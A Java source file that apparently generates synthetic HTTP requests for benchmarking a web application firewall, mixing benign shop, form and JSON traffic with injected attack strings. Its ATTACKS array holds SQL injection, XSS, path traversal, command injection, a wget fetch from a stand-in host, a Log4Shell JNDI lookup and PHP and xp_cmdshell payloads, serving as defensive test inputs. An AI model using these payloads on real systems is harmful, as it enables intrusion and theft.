package dev.selvedge.bench.waf;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Kinds of requests; each makes as many variants as there are seeds, that differ in values, field
 * values and the order of parameters and fields.
 */
enum Template {
  /** A page of a shop, with a query and cookies. */
  PAGE,
  /** A form that is sent. */
  FORM,
  /** A call of a JSON interface. */
  JSON,
  /** A picture: no parameters. */
  ASSET;

  private static final String[] WORDS = {
    "garden",
    "winter",
    "lamp",
    "table",
    "price",
    "summer",
    "report",
    "quarterly",
    "meeting",
    "notes",
    "blue",
    "kitchen",
    "chair",
    "hose",
    "york",
    "coffee",
    "beans",
    "annual",
    "results",
    "hello",
    "world",
    "anna",
    "schmidt",
    "street",
    "number",
    "please",
    "send",
    "the",
    "box",
    "before",
    "monday",
    "thanks"
  };

  private static final String[] AGENTS = {
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"
        + " Chrome/%d.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%<d.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        + " Version/17.%d"
        + " Safari/605.1.15"
  };

  /** Attacks of several families; each is caught at paranoia level 1. */
  private static final String[] ATTACKS = {
    "1' or '%d'='%<d",
    "%d union select name, password from users",
    "<script>alert(%d)</script>",
    "\"><img src=x%d onerror=alert(1)>",
    "../../../../%d/../etc/passwd",
    "; cat /etc/passwd %d",
    "$(wget http://203.0.113.%d/a.sh)",
    "${jndi:ldap://203.0.113.%d/a}",
    "<?php system('id %d'); ?>",
    "%d; exec xp_cmdshell 'dir'"
  };

  /** The variant of that number; the same for each run. */
  WafRequest variant(int number, boolean attack) {
    Random random =
        new Random(0x5E1FL * (ordinal() + 1) * 1_000_003 + number * 2L + (attack ? 1 : 0));
    String bad = "";
    if (attack) {
      int least = random.nextInt(250);
      bad = String.format(Locale.ROOT, ATTACKS[number % ATTACKS.length], least);
    }
    return switch (this) {
      case PAGE -> page(random, bad);
      case FORM -> form(random, bad);
      case JSON -> json(random, bad);
      case ASSET -> asset(random, bad);
    };
  }

  private static WafRequest page(Random random, String bad) {
    List<String> pairs =
        pairs(
            random,
            "q",
            words(random, 1 + random.nextInt(3)),
            "page",
            number(random),
            "sort",
            word(random));
    pairs.add("ref=" + hex(random));
    if (!bad.isEmpty()) {
      pairs.add("filter=" + encoded(bad));
    }
    Collections.shuffle(pairs, random);
    String uri = "/shop/" + word(random) + "/" + number(random) + "?" + String.join("&", pairs);
    return request("GET", uri, random, "", "");
  }

  private static WafRequest form(Random random, String bad) {
    List<String> pairs =
        pairs(
            random,
            "name",
            words(random, 2),
            "email",
            word(random) + number(random) + "@example.com",
            "message",
            words(random, 12 + random.nextInt(12)) + ", " + words(random, 4) + ".");
    pairs.add("token=" + hex(random) + hex(random));
    if (!bad.isEmpty()) {
      pairs.add("subject=" + encoded(bad));
    }
    Collections.shuffle(pairs, random);
    return request(
        "POST", "/contact", random, "application/x-www-form-urlencoded", String.join("&", pairs));
  }

  private static WafRequest json(Random random, String bad) {
    String comment = bad.isEmpty() ? words(random, 8) : bad.replace("\"", "\\\"");
    String body =
        """
        {"order":{"id":%s,"lines":[{"article":"%s","count":%d},{"article":"%s","count":%d}]},\
        "customer":{"name":"%s","city":"%s"},"comment":"%s"}\
        """
            .formatted(
                number(random),
                words(random, 2),
                random.nextInt(9),
                words(random, 1),
                random.nextInt(9),
                words(random, 2),
                word(random),
                comment);
    return request("POST", "/api/v1/orders", random, "application/json", body);
  }

  private static WafRequest asset(Random random, String bad) {
    String query = bad.isEmpty() ? "" : "?v=" + encoded(bad);
    String uri = "/static/img/" + word(random) + "-" + number(random) + ".png" + query;
    return request("GET", uri, random, "", "");
  }

  private static WafRequest request(
      String method, String uri, Random random, String type, String body) {
    List<String[]> fields = new ArrayList<>();
    String agent = AGENTS[random.nextInt(AGENTS.length)];
    fields.add(new String[] {"User-Agent", agent.formatted(100 + random.nextInt(40))});
    fields.add(
        new String[] {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"});
    fields.add(new String[] {"Accept-Language", "en-US,en;q=0." + (1 + random.nextInt(9))});
    fields.add(new String[] {"Accept-Encoding", "gzip, deflate, br"});
    fields.add(new String[] {"Referer", "https://www.example.com/shop/" + word(random)});
    fields.add(
        new String[] {
          "Cookie", "session=" + hex(random) + hex(random) + "; theme=" + word(random)
        });
    fields.add(new String[] {"X-Forwarded-For", "198.51.100." + random.nextInt(250)});
    if (!type.isEmpty()) {
      fields.add(new String[] {"Content-Type", type});
      fields.add(new String[] {"Content-Length", Integer.toString(WafRequest.bytes(body).length)});
    }
    Collections.shuffle(fields, random);
    fields.addFirst(new String[] {"Host", "www.example.com"});
    return new WafRequest(
        WafRequest.bytes(method),
        WafRequest.bytes(uri),
        fields.stream().map(f -> WafRequest.bytes(f[0])).toList(),
        fields.stream().map(f -> WafRequest.bytes(f[1])).toList(),
        WafRequest.bytes(body));
  }

  /** A form of many kilobytes of clean text. */
  static WafRequest large(int number, int bytes) {
    Random random = new Random(77_000_017L + number);
    StringBuilder body = new StringBuilder();
    while (body.length() < bytes) {
      body.append(body.isEmpty() ? "" : "&").append("part").append(number(random)).append('=');
      body.append(encoded(words(random, 40 + random.nextInt(80))));
    }
    String type = "application/x-www-form-urlencoded";
    return request("POST", "/upload", random, type, body.toString());
  }

  /** Text made to be expensive: it comes near to many patterns and matches few. */
  static WafRequest hostile(int number) {
    Random random = new Random(99_000_001L + number);
    StringBuilder text = new StringBuilder();
    String[] parts = {
      "select ", "union ", "' or ", "<x ", "on", "=", "/*", "*/", "${", "../", ";", "|", "a(", "%"
    };
    while (text.length() < 16_000) {
      text.append(parts[random.nextInt(parts.length)]);
      text.append(random.nextInt(3) == 0 ? word(random) : "");
    }
    String type = "application/x-www-form-urlencoded";
    return request("POST", "/upload", random, type, "t=" + encoded(text.toString()));
  }

  private static List<String> pairs(Random random, String... namesAndValues) {
    List<String> pairs = new ArrayList<>();
    for (int i = 0; i < namesAndValues.length; i += 2) {
      pairs.add(namesAndValues[i] + "=" + encoded(namesAndValues[i + 1]));
    }
    pairs.add("lang=" + (random.nextBoolean() ? "en" : "de"));
    return pairs;
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static String word(Random random) {
    return WORDS[random.nextInt(WORDS.length)];
  }

  private static String words(Random random, int count) {
    List<String> words = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      words.add(word(random));
    }
    return String.join(" ", words);
  }

  private static String number(Random random) {
    return Integer.toString(random.nextInt(100_000));
  }

  private static String hex(Random random) {
    return Long.toHexString(random.nextLong() | 1L << 62);
  }
}
